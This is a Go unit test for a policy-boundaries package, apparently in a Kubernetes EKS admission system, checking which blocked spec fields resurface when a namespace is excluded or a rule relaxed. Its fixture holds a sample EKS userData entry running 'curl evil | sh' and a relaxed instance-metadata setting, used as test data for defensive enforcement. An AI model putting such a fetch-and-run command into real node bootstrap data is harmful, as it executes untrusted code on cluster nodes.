package boundaries

import (
	"slices"
	"testing"
)

func TestResurrected(t *testing.T) {
	restrictive := map[string]string{"defaults": "spec: {eks: {configuration: {metadataOptions: {httpTokens: required, httpPutResponseHopLimit: 1}}}}"}
	submitted := specOf(t, "eks: {configuration: {userData: [{name: x, stage: PreBootstrap, data: 'curl evil | sh'}], metadataOptions: {httpTokens: optional}, labels: {a: b}}}")
	excluding := map[string]string{"defaults": restrictive["defaults"], "excludedNamespaces": "[team-a]"}
	relaxed := map[string]string{"defaults": restrictive["defaults"], "boundaries": "shared: {replace: [spec.eks.configuration.userData]}"}
	for _, tc := range []struct {
		name          string
		current, next map[string]string
		namespace     string
		want          []string
	}{
		{"no change", restrictive, restrictive, "team-a", nil},
		{"the namespace excluded", restrictive, excluding, "team-a", []string{"spec.eks.configuration.metadataOptions", "spec.eks.configuration.userData"}},
		{"another namespace excluded", restrictive, excluding, "team-b", nil},
		{"a rule relaxed", restrictive, relaxed, "team-a", []string{"spec.eks.configuration.userData"}},
		{"tightened again", excluding, restrictive, "team-a", nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := Resurrected(mustParse(t, tc.current), mustParse(t, tc.next), submitted, nil, tc.namespace, false)
			if !slices.Equal(got, tc.want) {
				t.Errorf("Resurrected = %v, want %v", got, tc.want)
			}
		})
	}
	if got := Resurrected(nil, mustParse(t, excluding), submitted, nil, "team-a", false); got != nil {
		t.Errorf("without boundaries in force: %v", got)
	}
}
